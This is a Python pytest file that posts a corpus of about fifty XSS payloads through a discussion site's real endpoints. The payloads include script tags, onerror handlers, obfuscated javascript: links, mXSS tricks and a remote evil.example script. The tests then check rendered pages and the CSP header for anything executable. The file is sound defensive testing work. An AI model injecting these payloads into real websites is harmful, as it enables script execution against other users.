"""Hostile posts: an XSS corpus stored through the real posting endpoints, then the rendered
pages checked for anything that could run (elements, event attributes, script URLs), and
the Content-Security-Policy that would stop whatever slipped through.

The same corpus runs in Chromium in tests/browser/test_disagreement.py (the `browser`
fixture lives in tests/browser/conftest.py and cannot be shared with this directory: a
second Playwright instance in the same run fails), where tripwires record any execution.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from tests import factories
from tests.helpers import csrf_token, sign_in, sign_out
from webapp.discussions.models import Post, Thread
from webapp.extensions import db

# (id, body). Payloads that could run set `window.__xss` (the browser test's tripwire).
XSS_CASES: list[tuple[str, str]] = [
    ("script-tag", "<script>window.__xss=1</script>"),
    ("script-mixed-case", "<ScRiPt>window.__xss=1</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("img-onerror", '<img src=x onerror="window.__xss=1">'),
    ("img-onerror-unquoted", "<img src=x onerror=window.__xss=1>"),
    ("event-attribute-div", '<div onmouseover="window.__xss=1">hover me</div>'),
    ("event-attribute-link", '<a href="https://example.com" onclick="window.__xss=1">x</a>'),
    ("details-ontoggle", '<details open ontoggle="window.__xss=1">opens itself</details>'),
    ("body-onload", '<body onload="window.__xss=1">'),
    ("raw-javascript-link", '<a href="javascript:window.__xss=1">raw link</a>'),
    ("md-javascript", "[x](javascript:alert(1))"),
    ("md-javascript-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-javascript-entity", "[x](&#106;avascript:alert(1))"),
    ("md-javascript-hex-entity", "[x](&#x6A;&#x61;vascript:alert(1))"),
    ("md-javascript-tab", "[x](java\tscript:alert(1))"),
    ("md-javascript-newline", "[x](java\nscript:alert(1))"),
    ("md-javascript-leading-space", "[x](  javascript:alert(1))"),
    ("md-javascript-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("md-javascript-percent-encoded", "[x](javascript%3Aalert(1))"),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-reference-javascript", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-reference-javascript-title", '[x][evil]\n\n[evil]: javascript:alert(1) "t"'),
    ("md-reference-entity", "[x][evil]\n\n[evil]: &#106;avascript:alert(1)"),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-onerror", '![x](x" onerror="window.__xss=1)'),
    ("md-image-remote", "![pixel](https://evil.example/pixel.png)"),
    ("md-image-reference", "![x][img]\n\n[img]: https://evil.example/p.png"),
    ("md-data-link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("raw-data-link", '<a href="data:text/html,<script>alert(1)</script>">d</a>'),
    ("md-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-vbscript-upper", "[x](VBScript:msgbox(1))"),
    ("svg-onload", '<svg onload="window.__xss=1">'),
    ("svg-script", "<svg><script>window.__xss=1</script></svg>"),
    (
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:window.__xss=1"/>'
        '<text y="20">x</text></a></svg>',
    ),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>"),
    ("iframe-javascript", '<iframe src="javascript:window.__xss=1"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-attribute", '<p style="background:url(javascript:alert(1))">styled</p>'),
    ("object-embed", '<object data="javascript:alert(1)"></object><embed src="x.swf">'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    (
        "html-entities",
        "&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62;",
    ),
    ("title-double-quote-break", '[x](https://example.com "a\\" onmouseover=\\"window.__xss=1")'),
    ("title-single-quote-break", "[x](https://example.com 'a\" onmouseover=\"window.__xss=1')"),
    ("title-paren-break", '[x](https://example.com (a" autofocus onfocus="window.__xss=1"))'),
    ("href-quote-break", '[x](https://example.com/"onmouseover="window.__xss=1)'),
    ("textarea-breakout", "</textarea><script>window.__xss=1</script>"),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=window.__xss=1>-->'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'),
    ("code-span-html", "`<script>window.__xss=1</script>` and ```<img src=x onerror=x>```"),
    ("heading-html", "# <img src=x onerror=window.__xss=1>"),
]

FORBIDDEN_ELEMENTS = {
    "script",
    "iframe",
    "frame",
    "svg",
    "math",
    "img",
    "style",
    "object",
    "embed",
    "form",
    "input",
    "textarea",
    "button",
    "meta",
    "base",
    "link",
    "details",
    "audio",
    "video",
    "source",
}
# Browsers drop ASCII whitespace and control characters anywhere in a URL's scheme.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
SAFE_SCHEMES = {"http", "https", "mailto"}
_QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
_TAG = re.compile(r"<[a-zA-Z][^>]*>")
_EVENT_ATTRIBUTE = re.compile(r"\son\w+\s*=", re.IGNORECASE)
_POST_BODY = re.compile(r'<div class="post-body">(.*?)</div>', re.DOTALL)


def unsafe_href(href: str) -> bool:
    """True unless the link is http(s), mailto or relative (as a browser would parse it)."""
    found = _SCHEME.match(_URL_NOISE.sub("", href).lower())
    return bool(found) and found.group(1) not in SAFE_SCHEMES


class Elements(HTMLParser):
    """Every element of a page, and which of them sit inside a `.post-body` div."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.all: list[tuple[str, dict]] = []
        self.in_bodies: list[tuple[str, dict]] = []
        self.bodies = 0
        self._depth = 0  # open <div>s since the current .post-body started (0: outside)

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.all.append((tag, attributes))
        if self._depth:
            self.in_bodies.append((tag, attributes))
            if tag == "div":
                self._depth += 1
        elif tag == "div" and "post-body" in attributes.get("class", "").split():
            self.bodies += 1
            self._depth = 1

    def handle_endtag(self, tag):
        if self._depth and tag == "div":
            self._depth -= 1


def parse(page: str) -> Elements:
    parser = Elements()
    parser.feed(page)
    parser.close()
    return parser


def problems_in_bodies(page: str) -> list[str]:
    """What is wrong inside the post bodies: by the parser and, independently, by regex."""
    found = []
    for tag, attributes in parse(page).in_bodies:
        if tag in FORBIDDEN_ELEMENTS:
            found.append(f"<{tag}> element")
        for name, value in attributes.items():
            if name.startswith("on") or name in {"style", "src", "srcdoc", "formaction"}:
                found.append(f"<{tag} {name}={value!r}>")
            if name in {"href", "action", "xlink:href"} and unsafe_href(value):
                found.append(f"<{tag} {name}={value!r}>")
    for body in _POST_BODY.findall(page):
        for needle in ("<script", "<iframe", "<svg", "<img", "<style", "<math", "<object"):
            if needle in body.lower():
                found.append(f"{needle} in {body[:120]!r}")
        for tag in _TAG.findall(body):
            if _EVENT_ATTRIBUTE.search(_QUOTED.sub('""', tag)):
                found.append(f"event attribute in {tag!r}")
    return found


# Strings only the corpus carries, never the site's own markup.
PAYLOAD_MARKERS = ("__xss", "evil.example", "javascript:", "vbscript:", "alert(")


def problems_in_page(page: str) -> list[str]:
    """Page-wide (payloads also leak through titles, excerpts, quotes and textareas): scripts
    are only the site's own files; no element anywhere has an event attribute or a script
    URL; no frames, objects, <base> or <meta http-equiv>. The site may draw its own inline
    SVG or images, so outside post bodies those only must not carry anything of the corpus."""
    found = []
    for tag, attributes in parse(page).all:
        if tag == "script" and not attributes.get("src", "").startswith("/static/"):
            found.append(f"inline or foreign <script {attributes}>")
        elif tag in {"iframe", "frame", "object", "embed", "base", "math"}:
            found.append(f"<{tag}> element")
        elif tag == "meta" and "http-equiv" in attributes:
            found.append(f"<meta {attributes}>")
        elif tag in {"svg", "img", "style", "image", "use"} and any(
            marker in value for value in attributes.values() for marker in PAYLOAD_MARKERS
        ):
            found.append(f"<{tag} {attributes}>")
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            if name in {"href", "src", "action", "formaction", "xlink:href", "data"} and (
                unsafe_href(value)
            ):
                found.append(f"<{tag} {name}={value!r}>")
    found += [f"<script> carries code: {m!r}" for m in re.findall(r"<script[^>]*>([^<]+)", page)]
    for block in re.finditer(r"<(svg|style)\b.*?</\1\s*>", page, re.DOTALL | re.IGNORECASE):
        if any(m in block.group(0) for m in PAYLOAD_MARKERS):
            found.append(f"corpus text inside <{block.group(1)}>: {block.group(0)[:120]!r}")
    return found


def assert_csp(response) -> None:
    policy = response.headers.get("Content-Security-Policy", "")
    directives = {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}
    assert directives.get("script-src") == ["'self'"], policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy, policy
    assert directives.get("object-src") == ["'none'"], policy
    assert directives.get("base-uri") == ["'none'"], policy


@pytest.fixture()
def posted(app, client, monkeypatch):
    """The whole corpus posted over HTTP by a (non-new) member, one post per case."""
    monkeypatch.setitem(app.config, "POST_RATE_LIMIT", "10000 per minute")
    monkeypatch.setitem(app.config, "POSTS_PER_PAGE", 200)
    author = factories.user(age_days=30)
    comparison = factories.comparison("Sieve", "Colander")
    sign_in(client, author)
    token = csrf_token(client, f"/compare/{comparison.slug}")
    first, *rest = XSS_CASES
    response = client.post(
        f"/compare/{comparison.slug}/disagree", data={"body": first[1], "csrf_token": token}
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    thread_id = int(re.match(r"/threads/(\d+)#", response.headers["Location"]).group(1))
    for name, body in rest:
        response = client.post(
            f"/threads/{thread_id}/posts", data={"body": body, "csrf_token": token}
        )
        assert response.status_code == 302, (name, response.get_data(as_text=True)[:500])
    posts = db.session.query(Post).filter_by(thread_id=thread_id).order_by(Post.id).all()
    assert [p.body for p in posts] == [body.strip() for _, body in XSS_CASES]
    return (
        author,
        comparison,
        thread_id,
        {name: p.id for (name, _), p in zip(XSS_CASES, posts, strict=True)},
    )


def test_corpus_is_inert_on_the_thread_page(client, posted):
    _, _, thread_id, _ = posted
    response = client.get(f"/threads/{thread_id}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert parse(page).bodies == len(XSS_CASES)
    assert problems_in_bodies(page) == []
    assert problems_in_page(page) == []
    assert_csp(response)


def test_corpus_text_is_kept_as_text(client, posted):
    """Sanitising must not eat the words: escaped markup shows as the text that was typed."""
    _, _, thread_id, _ = posted
    page = client.get(f"/threads/{thread_id}").get_data(as_text=True)
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in page
    assert '&lt;img src=x onerror="window.__xss=1"&gt;' in page
    # The one safe link survives, with the attribute-breaking title kept inside the title.
    assert re.search(r'<a href="https://example.com" title="a&quot; onmouseover=', page)


def test_no_link_in_a_post_has_a_script_scheme(client, posted):
    _, _, thread_id, _ = posted
    page = client.get(f"/threads/{thread_id}").get_data(as_text=True)
    hrefs = [a.get("href", "") for tag, a in parse(page).in_bodies if tag == "a"]
    assert hrefs, "the corpus has safe links that should render"
    assert [h for h in hrefs if unsafe_href(h)] == []
    assert all(
        a.get("rel") == "nofollow ugc noopener noreferrer"
        for tag, a in parse(page).in_bodies
        if tag == "a"
    )


OTHER_PAGES = {
    "comparison": "/compare/{slug}",
    "thread-list": "/compare/{slug}/discussion",
    "disagreements": "/disagreements",
    "quote-textarea-breakout": "/threads/{thread}?quote={textarea}",
    "quote-script": "/threads/{thread}?quote={script}",
    "edit-textarea-breakout": "/posts/{textarea}/edit",
    "edit-script": "/posts/{script}/edit",
}


def test_other_pages_showing_post_text_are_inert(client, posted):
    """The latest-activity excerpts, quote pre-fills and the edit form echo raw post text."""
    _, comparison, thread_id, ids = posted
    found = {}
    for name, path in OTHER_PAGES.items():
        url = path.format(
            slug=comparison.slug,
            thread=thread_id,
            textarea=ids["textarea-breakout"],
            script=ids["script-tag"],
        )
        response = client.get(url)
        assert response.status_code == 200, url
        assert_csp(response)
        page = response.get_data(as_text=True)
        found[name] = problems_in_page(page)
        if "quote=" in url or url.endswith("/edit"):
            # The raw text sits escaped inside the textarea, which is not broken out of.
            assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in page, url
            assert page.count("</textarea>") == page.count("<textarea"), url
    assert found == {name: [] for name in OTHER_PAGES}


def test_hostile_thread_title_and_conclusion_are_inert(app, client, session, monkeypatch):
    monkeypatch.setitem(app.config, "POST_RATE_LIMIT", "10000 per minute")
    member, editor = factories.user(age_days=30), factories.user(role="editor", age_days=30)
    comparison = factories.comparison()
    title = '"><script>window.__xss=1</script><img src=x onerror=window.__xss=1>'
    sign_in(client, member)
    token = csrf_token(client, f"/compare/{comparison.slug}")
    response = client.post(
        f"/compare/{comparison.slug}/discussion",
        data={"title": title, "body": "hello", "csrf_token": token},
    )
    assert response.status_code == 302
    general = db.session.query(Thread).filter_by(kind="general").one()
    assert general.title == title
    disagreement = client.post(
        f"/compare/{comparison.slug}/disagree", data={"body": "no", "csrf_token": token}
    )
    thread_id = int(re.match(r"/threads/(\d+)#", disagreement.headers["Location"]).group(1))

    sign_out(client, token)
    sign_in(client, editor)
    token = csrf_token(client, f"/threads/{thread_id}")
    conclusion = "\n\n".join(body for _, body in XSS_CASES)
    response = client.post(
        f"/threads/{thread_id}/resolve", data={"conclusion": conclusion, "csrf_token": token}
    )
    assert response.status_code == 302
    assert db.session.get(Thread, thread_id).status == "resolved"

    for url in (
        f"/threads/{general.id}",
        f"/compare/{comparison.slug}/discussion",
        f"/threads/{thread_id}",
    ):
        response = client.get(url)
        page = response.get_data(as_text=True)
        assert response.status_code == 200
        assert problems_in_page(page) == [], url
        assert problems_in_bodies(page) == [], url
        assert_csp(response)
    assert "Editors’ conclusion" in page


# --- the checks themselves must be able to fail ------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "<script>x</script>",
        '<img src="x">',
        '<p onclick="x">a</p>',
        '<a href="javascript:x">a</a>',
        '<a href="JAVA&#x09;SCRIPT:x">a</a>',
        '<a href=" data:text/html,x">a</a>',
        "<svg></svg>",
        "<iframe></iframe>",
        "<style>p{}</style>",
        '<p style="color:red">a</p>',
    ],
)
def test_the_detectors_catch_what_a_broken_sanitiser_would_let_through(body):
    page = f'<html><body><div class="post-body">{body}</div></body></html>'
    assert problems_in_bodies(page)


def test_the_detectors_accept_what_the_sanitiser_produces():
    page = (
        '<div class="post-body"><p><a href="https://example.com" title="a&quot; onclick=&quot;x" '
        'rel="nofollow ugc noopener noreferrer">x</a> <a href="/relative">r</a> '
        '<a href="mailto:a@example.com">m</a> &lt;script&gt;onerror=x</p></div>'
    )
    assert problems_in_bodies(page) == []
    assert unsafe_href("javascript%3Aalert(1)") is False
    assert unsafe_href("\tJaVa\nScRiPt:alert(1)") is True


def test_the_page_detector_allows_the_sites_own_drawings_but_not_leaks():
    own = (
        '<svg class="chart" viewBox="0 0 10 10" aria-hidden="true"><rect width="5"/></svg>'
        '<script src="/static/js/live.js" defer></script><link rel="icon" href="/static/f.svg">'
    )
    assert problems_in_page(own) == []
    for leak in [
        '<h1>"><img src=x onerror="window.__xss=1"></h1>',
        "<title>x</title><script>window.__xss=1</script>",
        '<svg><a href="javascript:x">y</a></svg>',
        "<p><iframe></iframe></p>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<style>p{background:url(javascript:alert(1))}</style>",
        '<img src="https://evil.example/pixel.png">',
    ]:
        assert problems_in_page(leak), leak
